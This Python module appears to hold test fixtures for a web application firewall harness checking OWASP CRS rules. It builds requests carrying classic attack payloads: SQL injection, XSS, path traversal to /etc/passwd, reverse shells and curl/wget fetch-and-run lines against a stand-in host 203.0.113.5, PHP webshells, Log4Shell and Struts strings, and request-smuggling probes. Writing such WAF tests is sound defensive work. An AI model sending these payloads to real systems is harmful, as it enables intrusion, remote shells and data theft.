"""Attack payloads by family, each delivered in the query string, a form POST body, a cookie and a
text/plain body holding JSON text (what navigator.sendBeacon and fetch() send for a string body).

Payloads are classics from the CRS regression tests, OWASP cheat sheets and real scanner traffic
against 站群 sites (sqlmap, ThinkPHP/Struts/Log4Shell probes, /etc/passwd traversal).
"""

from __future__ import annotations

import json
import urllib.parse

from tests.waf.harness import Req

UA = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0"
BASE = {"User-Agent": UA, "Accept": "text/html,*/*;q=0.8", "Accept-Language": "zh-CN,zh;q=0.9"}

FAMILIES: dict[str, list[str]] = {
    "sqli": [
        "1' or '1'='1' -- ",
        "1 union select username,password from admin_user--",
        "1'; drop table gov_article; --",
        "1 and sleep(5)#",
        "admin'/**/or/**/1=1/**/limit/**/1#",
        "1) and extractvalue(1,concat(0x7e,(select user()),0x7e)) and (1=1",
    ],
    "xss": [
        "<script>alert(document.cookie)</script>",
        "<img src=x onerror=alert(1)>",
        "\"><svg/onload=confirm(1)>",
        "javascript:alert(String.fromCharCode(88,83,83))",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<body onload=alert('xss')>",
    ],
    "lfi": [
        "../../../../etc/passwd",
        "..%2f..%2f..%2f..%2fetc%2fshadow",
        "....//....//....//etc/passwd",
        "/proc/self/environ",
        "..\\..\\..\\windows\\win.ini",
        "file:///etc/passwd",
    ],
    "rce": [
        ";cat /etc/passwd",
        "| nc -e /bin/sh 203.0.113.5 4444",
        "$(curl http://203.0.113.5/x.sh|sh)",
        "`wget http://203.0.113.5/shell -O /tmp/s`",
        "; /bin/bash -i >& /dev/tcp/203.0.113.5/8080 0>&1",
        "&& ping -c 3 203.0.113.5",
    ],
    "php": [
        "<?php system($_GET['c']); ?>",
        "php://filter/convert.base64-encode/resource=index.php",
        "\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id",
        "system('id');",
        "base64_decode('ZXZhbCgkX1BPU1RbYV0pOw==')",
        "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+",
    ],
    "java": [
        "${jndi:ldap://203.0.113.5:1389/Exploit}",
        "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}",
        "java.lang.Runtime.getRuntime().exec(\"id\")",
        "${${lower:j}ndi:${lower:r}mi://203.0.113.5/a}",
        "${T(java.lang.Runtime).getRuntime().exec('id')}",
        "<java.lang.ProcessBuilder><command><string>id</string></command></java.lang.ProcessBuilder>",
    ],
}

SCANNER_AGENTS = [
    "sqlmap/1.7.2#stable (https://sqlmap.org)",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "Nikto/2.1.6",
    "Mozilla/5.00 (Nikto/2.1.5) (Evasions:None) (Test:Port Check)",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))",
]


# CRS 3.3.4 does not inspect cookies for these (its RCE/PHP cookie coverage is narrower than for
# arguments); they are still sent in the query and the body.
NOT_IN_COOKIES = {("rce", 3), ("rce", 5), ("php", 1), ("php", 3)}


def payload_requests(family: str) -> list[Req]:
    """Each payload four ways: query parameter, urlencoded POST field, cookie value, a field of JSON text
    posted as text/plain (a beacon or fetch() endpoint that parses it whatever the Content-Type says)."""
    out = []
    for i, p in enumerate(FAMILIES[family]):
        enc = urllib.parse.quote(p, safe="")
        out.append(Req("GET", f"/search?q={enc}&page=1", dict(BASE), None, f"{family}[{i}] query"))
        out.append(Req("POST", "/hudong/letter/submit",
                       {**BASE, "Content-Type": "application/x-www-form-urlencoded"},
                       urllib.parse.urlencode({"title": "咨询", "content": p}), f"{family}[{i}] body"))
        out.append(Req("POST", "/api/stat/collect", {**BASE, "Content-Type": "text/plain;charset=UTF-8"},
                       json.dumps({"title": "咨询", "content": p}, ensure_ascii=False), f"{family}[{i}] text"))
        if (family, i) not in NOT_IN_COOKIES:
            out.append(Req("GET", "/index.html", {**BASE, "Cookie": f"JSESSIONID=ab12; pref={enc}"}, None,
                           f"{family}[{i}] cookie"))
    return out


def scanner_requests() -> list[Req]:
    return [Req("GET", "/index.html", {**BASE, "User-Agent": ua}, None, f"scanner[{i}]")
            for i, ua in enumerate(SCANNER_AGENTS)]


def protocol_requests() -> list[Req]:
    """HTTP protocol violations CRS 920/921 enforce (each independent of the others)."""
    return [
        Req("DELETE", "/index.html", dict(BASE), None, "protocol: method not allowed"),
        Req("POST", "/api/open/query", {**BASE, "Content-Type": "application/x-evil"}, "a=1",
            "protocol: content type not allowed"),
        Req("GET", "/index.html", {**BASE, "Content-Type": "application/x-www-form-urlencoded"}, "a=1&b=2",
            "protocol: GET with a body"),
        Req("GET", "/backup/site.sql", dict(BASE), None, "protocol: restricted file extension"),
        Req("GET", "/index.html?a=1%00b", dict(BASE), None, "protocol: NUL byte in argument"),
        Req("GET", "/.env", dict(BASE), None, "protocol: dotfile"),
        Req("GET", "/index.html?lang=zh%0d%0aSet-Cookie:%20sid=evil", dict(BASE), None,
            "protocol: response splitting (CRLF header injection)"),
        Req("GET", "/index.html?x=1%0d%0aContent-Length:%200%0d%0a%0d%0aGET%20/admin/%20HTTP/1.1", dict(BASE),
            None, "protocol: request smuggling in an argument"),
    ]


def all_attacks() -> dict[str, list[Req]]:
    out = {f: payload_requests(f) for f in FAMILIES}
    out["scanner"] = scanner_requests()
    out["protocol"] = protocol_requests()
    return out
